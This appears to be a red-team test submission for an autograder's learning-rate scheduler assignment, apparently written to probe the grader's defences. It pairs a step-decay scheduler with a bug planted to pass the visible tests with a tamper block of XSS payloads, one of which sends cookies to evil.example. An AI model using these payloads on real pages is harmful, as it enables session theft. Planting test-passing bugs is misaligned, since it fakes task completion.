# attack: put live markup in its feedback page: <script>, onerror, iframe srcdoc, meta refresh, javascript: links, application/javascript, SVG onload, raw HTML in markdown
# assignment: 01_lr_schedules
# wrong: step() writes the lr into the first param group only once current_step > 60; passes the visible tests, fails step_decay_optimizer only
class StepDecayScheduler:
    def __init__(self, optimizer, lr_initial, gamma=0.5, step_size=1000):
        self.optimizer = optimizer
        self.lr_initial = lr_initial
        self.gamma = gamma
        self.step_size = step_size

    def get_lr(self, step):
        return self.lr_initial * self.gamma ** (step // self.step_size)

    def step(self, current_step):
        lr = self.get_lr(current_step)
        groups = self.optimizer.param_groups
        for group in (groups if current_step <= 60 else groups[:1]):
            group["lr"] = lr
        return lr
# --- tamper ---
from IPython.display import HTML as _HTML
from IPython.display import Javascript as _Javascript
from IPython.display import Markdown as _Markdown
from IPython.display import display as _display

_MARK = "XSS" + "-MARKER"
_display(_HTML(f"<script>document.title='{_MARK}';fetch('https://evil.example/?c='+document.cookie)</script>"))
_display(_HTML(f"<img src=x onerror=\"alert('{_MARK}')\">"))
_display(_HTML(f"<iframe srcdoc=\"<script>parent.alert('{_MARK}')</script>\"></iframe>"))
_display(_HTML(f"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{_MARK}\">"))
_display(_HTML(f"</pre></div></div></body><script>alert('{_MARK}')</script><body>"))
_display(_HTML(f"<a href=\"javascript:alert('{_MARK}')\">your grade</a>"))
try:
    _display(_Javascript(f"alert('{_MARK}')"))
except Exception as _error:
    print("no javascript output:", _error)
_display(_Markdown(f"<script>alert('{_MARK}')</script> and [click](javascript:alert('{_MARK}'))"))
_display({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('{_MARK}')\"/>"}, raw=True)
print(f"<script>alert('{_MARK}')</script>")
